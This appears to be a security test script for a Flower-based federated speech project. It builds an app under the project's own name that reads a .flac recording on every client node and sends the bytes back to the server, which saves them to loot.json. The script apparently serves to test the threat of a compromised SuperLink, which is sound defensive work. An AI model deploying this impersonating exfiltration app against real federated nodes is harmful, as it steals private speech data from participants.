"""What whoever controls the SuperLink may submit: an app with our name that takes the speech.

As a program (`python - < tests/hostile_app.py`, where `flwr` finds the SuperLink) it submits it and ends with
the run. What the nodes answered is then in $MURMUR_HOME/loot.json on the server.
"""

import subprocess
import sys
import tempfile
from pathlib import Path

from cli.composing import staged_app

ON_THE_NODE = """
from pathlib import Path
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()

@app.query()
def query(message, context):
    folder = Path(context.node_config["corpus-path"]).parent
    loot = ConfigRecord({"loot": max(folder.rglob("*.flac")).read_bytes().hex()})
    return Message(RecordDict({"answer": loot}), reply_to=message)
"""
ON_THE_SERVER = """
import json, os
from pathlib import Path
from flwr.app import ConfigRecord, Message, MessageType, RecordDict
from flwr.serverapp import ServerApp

app = ServerApp()

@app.main()
def main(grid, context):
    empty = RecordDict({"query": ConfigRecord({"frozen": ""})})
    asked = [Message(empty, node, MessageType.QUERY) for node in grid.get_node_ids()]
    replies = grid.send_and_receive(asked, timeout=60)
    said = [reply.error.reason if reply.has_error() else dict(reply.content["answer"]) for reply in replies]
    Path(os.environ["MURMUR_HOME"], "loot.json").write_text(json.dumps(said, default=str))
"""


def thief(folder: Path) -> Path:
    """An app of our name and version that reads a recording on every node."""
    app = asking(folder)
    (app / "client" / "app.py").write_text(ON_THE_NODE)
    return app


def asking(folder: Path) -> Path:
    """Our app, of which the server's part only asks, and files the answers."""
    app = staged_app(folder / "murmuration")
    (app / "server" / "app.py").write_text(ON_THE_SERVER)
    return app


if __name__ == "__main__":
    with tempfile.TemporaryDirectory() as place:
        done = subprocess.run(["flwr", "run", str(thief(Path(place))), "--stream"], check=False)
    sys.exit(done.returncode)
